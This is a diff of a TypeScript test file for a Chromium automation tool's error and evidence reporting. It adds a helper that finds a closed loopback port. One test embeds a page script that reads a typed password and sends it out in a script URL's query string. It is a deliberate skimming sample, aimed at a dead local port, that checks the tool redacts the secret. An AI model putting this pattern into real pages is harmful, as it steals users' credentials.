@@ -279,10 +279,22 @@ test('chromium: a tab the script closed is not in the evidence', async () => {
   assert.equal(field(bs[0], 'EVIDENCE_SKIPPED '), undefined);
 });
 
+/** A loopback port nothing listens on: a connection is refused, as an unreachable CDN's would be
+ * (port 9 would not do: Chrome refuses it itself, ERR_UNSAFE_PORT, which is no missing answer). */
+async function closedPort(): Promise<number> {
+  const { createServer } = await import('node:net');
+  const probe = createServer().listen(0, '127.0.0.1');
+  await new Promise((r) => probe.once('listening', r));
+  const port = (probe.address() as { port: number }).port;
+  await new Promise((r) => probe.close(r));
+  return port;
+}
+
 test('chromium: a page whose script could not load: the [error] line says so and names pg.route, after the locator\'s own hint', async () => {
-  // Port 9 (discard) refuses on loopback: the page's library never loads, its own code then throws.
+  // The page's library never loads (refused), and its own code then throws.
+  const port = await closedPort();
   const script = `const pg = await openTab();
-await pg.setContent('<script src="http://127.0.0.1:9/lib.js"></script><script>Lib.start()</script><p>app</p>');
+await pg.setContent('<script src="http://127.0.0.1:${port}/lib.js"></script><script>Lib.start()</script><p>app</p>');
 await pg.click("#start", { timeout: 500 });
 console.log("GSTACK_STEP_OK");`;
   const r = await gstack(['run', script]);
@@ -292,12 +304,12 @@ console.log("GSTACK_STEP_OK");`;
   assert.match(error, /pg\.route before goto/);
   // Chrome's "Failed to load resource" names no URL; the evidence adds the one it was about.
   const consoleErrors = field(blocks(r.lines)[0], 'CONSOLE_ERRORS=') ?? '';
-  assert.match(consoleErrors, /Failed to load resource: net::ERR_[A-Z_]+ \(http:\/\/127\.0\.0\.1:9\/lib\.js\)/, r.stdout);
+  assert.match(consoleErrors, new RegExp(String.raw`Failed to load resource: net::ERR_[A-Z_]+ \(http:\/\/127\.0\.0\.1:${port}\/lib\.js\)`), r.stdout);
 });
 
 test('chromium: an offline app\'s many loads from one other host fold into one entry, and the page\'s own 404 stays in sight (trial V10)', async () => {
-  // Port 9 refuses on loopback, as an unreachable CDN does offline: 14 stylesheets and images
-  // from it, then the page's own request for a missing item.
+  // Port 9 fails on loopback (Chrome refuses it, ERR_UNSAFE_PORT), as an unreachable CDN does
+  // offline: 14 stylesheets and images from it, then the page's own request for a missing item.
   const refused = Array.from({ length: 12 }, (_, i) => `<link rel="stylesheet" href="http://127.0.0.1:9/font-${i}.css">`).join('') + '<img src="http://127.0.0.1:9/a.png"><img src="http://127.0.0.1:9/b.png">';
   site.setPage('/offline.html', `<title>Offline</title>${refused}<p>app</p><script>fetch("/api/items/404-me")</script>`);
   const r = await gstack(['run', `const pg = await openTab(${JSON.stringify(site.url + 'offline.html')}); await pg.waitForLoadState("networkidle"); throw new Error("stop");`]);
@@ -312,11 +324,7 @@ test('chromium: an offline app\'s many loads from one other host fold into one e
 
 test('chromium: a call that passed while a page\'s scripts got no answer says so on stderr, once (trials V11, V13: a sign-up popup from a CDN, offline)', async () => {
   // A port nothing listens on: the connection is refused, as an unreachable CDN's would be.
-  const { createServer } = await import('node:net');
-  const probe = createServer().listen(0, '127.0.0.1');
-  await new Promise((r) => probe.once('listening', r));
-  const port = (probe.address() as { port: number }).port;
-  await new Promise((r) => probe.close(r));
+  const port = await closedPort();
   const r = await gstack(['run', `const pg = await openTab();
 await pg.setContent('<script src="http://127.0.0.1:${port}/portal.min.js"></script><link rel="stylesheet" href="http://127.0.0.1:${port}/font.css"><p>app</p>');
 await closeTab(pg);
@@ -332,11 +340,7 @@ console.log("GSTACK_STEP_OK");`]);
 test('chromium: a page that puts a typed password into the address of a script that gets no answer: the stderr notice names it cut', async () => {
   // The attack: the page reads what the script typed into its password field and asks for a
   // script whose address carries it, from a host that never answers; the notice quotes addresses.
-  const { createServer } = await import('node:net');
-  const probe = createServer().listen(0, '127.0.0.1');
-  await new Promise((r) => probe.once('listening', r));
-  const port = (probe.address() as { port: number }).port;
-  await new Promise((r) => probe.close(r));
+  const port = await closedPort();
   const pw = 'Tr4ck-pw-Qm82xZ';
   const page = `<input type="password" id="p"><script>document.getElementById("p").addEventListener("input", (e) => { const s = document.createElement("script"); s.src = "http://127.0.0.1:${port}/track.js?k=" + e.target.value; document.head.append(s); });</script>`;
   const r = await gstack(['run', `const pg = await openTab();
